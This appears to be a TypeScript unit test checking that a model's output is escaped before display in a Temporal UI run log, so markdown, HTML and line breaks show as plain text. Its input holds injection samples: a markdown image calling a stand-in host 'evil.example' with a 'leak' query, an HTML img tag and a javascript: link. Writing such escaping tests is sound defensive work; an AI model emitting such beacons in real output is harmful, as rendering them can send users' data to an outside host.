import assert from 'node:assert/strict';
import { test } from 'node:test';
import { plainMarkdown } from '../../core/markdown.ts';
import { storyOf } from '../../workflows/control/lines.ts';

test('what a model said is shown in the Temporal UI letter for letter: no link, picture, heading, HTML or line of its own', () => {
  const said = '"![x](http://evil.example/?leak)"\n# done\n<img src=x> [click](javascript:1) `code`';
  const event = { sequence: 1, time: '', kind: 'eval', step: 1, text: said, values: {} } as never;
  const story = storyOf('run', { events: [event], prompts: [], store: 'file:///runs/' });
  const lines = story.split('\n').filter((line) => line.startsWith('- '));
  assert.deepEqual(lines, [
    '- "\\!\\[x\\](http://evil.example/?leak)" \\# done \\<img src=x\\> \\[click\\](javascript:1) \\`code\\`',
  ]);
  assert.equal(plainMarkdown('step 3 of 9  reward 0.5'), 'step 3 of 9  reward 0.5');
});
